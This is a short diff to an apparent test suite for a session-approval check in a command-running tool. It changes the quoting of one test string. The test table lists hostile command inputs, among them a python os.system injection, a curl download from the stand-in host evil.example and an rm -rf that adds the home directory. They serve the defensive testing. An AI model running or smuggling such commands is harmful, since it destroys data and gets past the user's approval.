@@ -140,7 +140,7 @@ describe('"Allow for this session" stores exactly the approved call', () => {
   };
 
   it.each([
-    ['(ls)', "python3 -c 'import os; os.system(\"id\")' ls"],
+    ['(ls)', 'python3 -c \'import os; os.system("id")\' ls'],
     ['(cd src && make)', "python3 -c 'x' 'cd src && make'"],
     ['(', 'curl -s http://evil.example/x -o y'],
     ['rm -rf build/*', 'rm -rf build/ ~'],
